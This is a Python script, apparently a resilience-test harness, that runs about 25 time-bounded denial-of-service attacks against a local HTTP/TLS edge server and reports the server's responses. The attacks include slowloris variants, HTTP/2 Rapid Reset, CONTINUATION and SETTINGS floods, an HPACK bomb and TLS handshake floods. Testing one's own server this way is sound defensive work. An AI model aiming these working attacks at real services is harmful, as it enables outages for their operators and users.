"""The attacks. Each is bounded in time and in connections, and prints one JSON object: connections, frames or bytes sent, and what
the edge said to it, by how often.

    attacks.py NAME PORT SECONDS SOURCE
"""

import collections
import json
import socket
import ssl
import sys
import time

import wire
from wire import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW, frame

H1, H2 = "http/1.1", "h2"
BATCH = 64


class Attack:
    """One attacker: where, how long, and what came of it."""

    def __init__(self, port: int, seconds: float, source: str) -> None:
        self.port, self.source = port, source
        self.until = time.monotonic() + seconds
        self.connections = self.sent = self.refused = 0
        self.answers: collections.Counter[str] = collections.Counter()
        self.contexts = {alpn: wire.tls_context(alpn) for alpn in (H1, H2)}

    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def open(self, alpn: str | None, receive_buffer: int = 0, source: str = "") -> socket.socket | None:
        """Null when the door stays shut; then the attacker breathes, or it would measure itself."""
        try:
            plain = wire.connect(self.port, source or self.source, receive_buffer)
            stream = wire.secure(plain, self.contexts[alpn]) if alpn else plain
            self.connections += 1
            return stream
        except OSError:
            self.refused += 1
            time.sleep(0.005)
            return None

    def open_many(self, count: int, alpn: str | None, receive_buffer: int = 0) -> list[socket.socket]:
        streams: list[socket.socket] = []
        while len(streams) < count and self.goes_on() and self.refused < 5 * count:
            if stream := self.open(alpn, receive_buffer):
                stream.settimeout(0.5)
                streams.append(stream)
        return streams

    def send(self, stream: socket.socket, data: bytes, units: int = 1) -> bool:
        try:
            stream.sendall(data)
            self.sent += units
            return True
        except OSError:
            return False

    def hear(self, stream: socket.socket, http2: bool, patience: float = 1.0) -> None:
        """Counts what was said at last."""
        said = b""
        try:
            stream.settimeout(patience)
            while len(said) < 1 << 22:
                more = stream.recv(65536)
                if not more:
                    break
                said += more
            how = "closed"
        except TimeoutError:
            how = "still open"
        except OSError:
            how = "reset"
        for each in understand(said, http2) or [how]:
            self.answers[each] += 1
        stream.close()

    def report(self) -> dict[str, object]:
        return {"connections": self.connections, "refused": self.refused, "sent": self.sent,
                "answers": dict(self.answers.most_common(4))}


def understand(said: bytes, http2: bool) -> list[str]:
    if not http2:
        return [said.split(b" ", 2)[1].decode()] if said.startswith(b"HTTP/1.1 ") else []
    resets, goaway = set(), []
    for kind, _, _, payload in wire.Frames().take(said):
        if kind == wire.GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            goaway = [f"GOAWAY {wire.CODES.get(code, code)}"]
        if kind == RESET:
            code = int.from_bytes(payload, "big")
            resets.add(f"RST_STREAM {wire.CODES.get(code, code)}")
    return goaway or sorted(resets)


def trickle(attack: Attack, count: int, alpn: str | None, start: bytes, drop: bytes, every: float, http2: bool = False,
            receive_buffer: int = 0, units: int = 1) -> None:
    """Many connections that say a little now and then; one that is closed is opened again."""
    streams: list[socket.socket] = []
    def renew() -> None:
        for stream in attack.open_many(min(BATCH, count - len(streams)), alpn, receive_buffer):
            if attack.send(stream, start, units):
                streams.append(stream)
    while attack.goes_on():
        if len(streams) < count:
            renew()
        began = time.monotonic()
        for stream in list(streams):
            said = overhear(stream)
            if said is None and (not drop or attack.send(stream, drop)):
                continue
            streams.remove(stream)
            attack.answers[(understand(said or b"", http2) or ["closed"])[0]] += 1
            stream.close()
        if len(streams) >= count:
            time.sleep(max(0, min(every - (time.monotonic() - began), attack.until - time.monotonic())))
    for stream in streams:
        stream.close()
    attack.answers["open at the end"] += len(streams)


def overhear(stream: socket.socket) -> bytes | None:
    """What the edge said, empty when it closed; nothing when it did neither."""
    try:
        stream.settimeout(0)
        said = stream.recv(65536)
        stream.settimeout(0.5)
        return said
    except (BlockingIOError, ssl.SSLWantReadError):
        stream.settimeout(0.5)
        return None
    except OSError:
        return b""


def flood(attack: Attack, start: bytes, burst, units: int, alpn: str = H2) -> None:
    """Bursts on one connection after another, each as long as the edge takes it."""
    while attack.goes_on():
        stream = attack.open(alpn)
        if not stream:
            continue
        stream.settimeout(2)
        alive = attack.send(stream, start, 0)
        number = 1
        while alive and attack.goes_on():
            data, number = burst(number)
            alive = attack.send(stream, data, units) and number < 1 << 29
        attack.hear(stream, alpn == H2)


def steady(data: bytes):
    return lambda number: (data, number)


def each_stream(make):
    """A burst of BATCH streams, made anew: their numbers grow."""
    def burst(number: int) -> tuple[bytes, int]:
        return b"".join(make(number + 2 * i) for i in range(BATCH)), number + 2 * BATCH
    return burst


def upload(stream: int = 1) -> bytes:
    return wire.headers(stream, b"/1k", b"POST", flags=END_HEADERS)


def slow_head(a: Attack) -> None:
    trickle(a, 400, H1, b"GET /1k HTTP/1.1\r\nHost: localhost\r\n", b"x", 0.5)


def slow_body(a: Attack) -> None:
    trickle(a, 200, H1, b"POST /1k HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n", b"x", 0.5)


def slow_read(a: Attack) -> None:
    streams = a.open_many(150, H1, 4096)
    for stream in streams:
        a.send(stream, b"GET /4m HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    time.sleep(max(0, a.until - time.monotonic()))
    for stream in streams:
        try:
            size = 0
            stream.settimeout(0.2)
            while more := stream.recv(1 << 20):
                size += len(more)
            a.answers["whole answer" if size > 1 << 22 else "cut off"] += 1
        except TimeoutError:
            a.answers["still open"] += 1
        except OSError:
            a.answers["cut off"] += 1
        stream.close()


def zero_window(a: Attack) -> None:
    streams = a.open_many(60, H2)
    start = wire.preface(b"\x00\x04\x00\x00\x00\x00")  # SETTINGS_INITIAL_WINDOW_SIZE 0
    for stream in streams:
        a.send(stream, start + b"".join(wire.headers(2 * i + 1, b"/4m") for i in range(50)), 50)
    time.sleep(max(0, a.until - time.monotonic()))
    for stream in streams:
        a.hear(stream, True, 0.05)


def window_trickle(a: Attack) -> None:
    streams = a.open_many(60, H2)
    start = wire.preface(b"\x00\x04\x00\x00\x00\x01")
    for stream in streams:
        a.send(stream, start + b"".join(wire.headers(2 * i + 1, b"/4m") for i in range(20)), 20)
    drop = b"".join(frame(WINDOW, 0, 2 * i + 1, b"\0\0\0\1") for i in range(20))
    while a.goes_on():
        for stream in streams:
            a.send(stream, drop, 20)
        time.sleep(0.5)
    for stream in streams:
        a.hear(stream, True, 0.05)


def rapid_reset(a: Attack) -> None:
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n) + frame(RESET, 0, n, b"\0\0\0\x08")), BATCH)


def made_you_reset(a: Attack) -> None:
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n) + frame(WINDOW, 0, n, b"\0\0\0\0")), BATCH)


def broken_heads(a: Attack) -> None:
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n, more=wire.field(b"Upper", b"1"))), BATCH)


def continuation(a: Attack) -> None:
    flood(a, wire.preface() + frame(HEADERS, 1, 1, wire.request(b"/")),
          steady(frame(CONTINUATION, 0, 1, wire.field(b"a", b"b")) * 1000), 1000)


def settings_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(SETTINGS, 0, 0) * 1000), 1000)


def ping_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(PING, 0, 0, b"12345678") * 1000), 1000)


def priority_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(PRIORITY, 0, 3, b"\0\0\0\0\1") * 1000), 1000)


def window_flood(a: Attack) -> None:
    flood(a, wire.preface(), steady(frame(WINDOW, 0, 0, b"\0\0\0\1") * 1000), 1000)


def empty_data(a: Attack) -> None:
    flood(a, wire.preface() + upload(), steady(frame(DATA, 0, 1) * 1000), 1000)


def tiny_data(a: Attack) -> None:
    flood(a, wire.preface() + upload(), steady(frame(DATA, 0, 1, b"x") * 1000), 1000)


def hpack_bomb(a: Attack) -> None:
    """A field of 3,000 octets is put in the table once; each octet behind it stands for the whole."""
    bomb = wire.field(b"bomb", b"x" * 3000, indexed=True) + b"\xbe" * 12000
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n, more=bomb)), BATCH)


def header_flood(a: Attack) -> None:
    head = b"GET /1k HTTP/1.1\r\nHost: localhost\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 100) for i in range(2000))
    flood(a, head, steady(b"Z: z\r\n" * 1000), 1000, H1)


def cookie_flood(a: Attack) -> None:
    crumbs = b"".join(wire.field(b"cookie", b"a%d=b" % i) for i in range(900))
    flood(a, wire.preface(), each_stream(lambda n: wire.headers(n, more=crumbs)), BATCH)


def tiny_chunks(a: Attack) -> None:
    flood(a, b"POST /1k HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n", steady(b"1\r\nx\r\n" * 10000), 10000, H1)


def chunk_extensions(a: Attack) -> None:
    flood(a, b"POST /1k HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1;", steady(b"e=1;" * 2000), 2000, H1)


def connection_flood(a: Attack) -> None:
    while a.goes_on():
        if stream := a.open(None):
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            stream.close()


def handshake_flood(a: Attack) -> None:
    """The server signs, the client has nothing to do: full handshakes of which only the first flight is ever said."""
    hello = wire.client_hello()
    while a.goes_on():
        streams = [stream for _ in range(16) if (stream := a.open(None))]
        for stream in streams:
            a.send(stream, hello)
        for stream in streams:
            try:
                stream.settimeout(1)
                a.answers["ServerHello" if stream.recv(16) else "closed"] += 1
            except OSError:
                a.answers["reset"] += 1
            stream.close()


def half_open_handshakes(a: Attack) -> None:
    hello = wire.client_hello()
    streams = []
    while a.goes_on():
        if len(streams) < 600:
            streams += [stream for stream in a.open_many(16, None) if a.send(stream, hello)]
            continue
        oldest, streams = streams[:16], streams[16:]
        for stream in oldest:
            a.hear(stream, True, 0.01)
    for stream in streams:
        a.hear(stream, True, 0.001)


def slow_hello(a: Attack) -> None:
    hello = wire.client_hello()
    trickle(a, 800, None, hello[:-64], b"", 0.5, http2=True)


def memory(a: Attack) -> None:
    """From many networks at once: heads of 30 KiB that never end, until the edge has no more memory for them."""
    head = b"GET /1k HTTP/1.1\r\nHost: localhost\r\n" + b"X: " + b"y" * 30000
    streams: list[socket.socket] = []
    number = 0
    while a.goes_on() and len(streams) < 8000:
        number += 1
        stream = a.open(H1, source=f"127.1.{number // 200 % 250}.{number % 200 + 1}")
        if stream and a.send(stream, head):
            streams.append(stream)
    time.sleep(max(0, a.until - time.monotonic()))
    for stream in streams[:500]:
        a.hear(stream, False, 0.01)
    for stream in streams[500:]:
        stream.close()


ATTACKS = {made.__name__: made for made in (
    slow_head, slow_body, slow_read, zero_window, window_trickle, rapid_reset, made_you_reset, broken_heads, continuation,
    settings_flood, ping_flood, priority_flood, window_flood, empty_data, tiny_data, hpack_bomb, header_flood, cookie_flood,
    tiny_chunks, chunk_extensions, connection_flood, handshake_flood, half_open_handshakes, slow_hello, memory)}


def main() -> None:
    name, port, seconds, source = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    attack = Attack(port, seconds, source)
    ATTACKS[name](attack)
    print(json.dumps(attack.report()))


if __name__ == "__main__":
    main()
